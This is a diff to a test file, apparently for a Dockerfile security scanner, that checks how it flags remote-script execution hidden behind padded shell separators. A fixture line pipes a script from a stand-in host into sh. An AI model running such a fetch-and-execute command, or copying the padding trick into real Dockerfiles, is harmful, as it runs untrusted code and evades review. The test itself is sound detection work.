@@ -41,7 +41,10 @@ describe('shell analysis stays linear on hostile RUNs', () => {
       Dockerfile: `${pinned}RUN ${':;'.repeat(50)}curl https://x.example/i.sh | sh\n`,
     });
     roots.push(hidden.root, shown.root);
-    expect(hidden.findings.map((f) => [f.ruleId, f.startLine])).toEqual([['dockerfile/parse-error', 3]]);
+    // The RUN past the cap is one blocking finding; the rest of the file is still checked.
+    expect(hidden.findings.map((f) => [f.ruleId, f.severity, f.startLine, f.startColumn])).toEqual([
+      ['dockerfile/shell-analysis-incomplete', 'high', 3, 1],
+    ]);
     expect(shown.findings.map((f) => [f.ruleId, f.startLine])).toEqual([
       ['dockerfile/remote-script-exec', 3],
     ]);
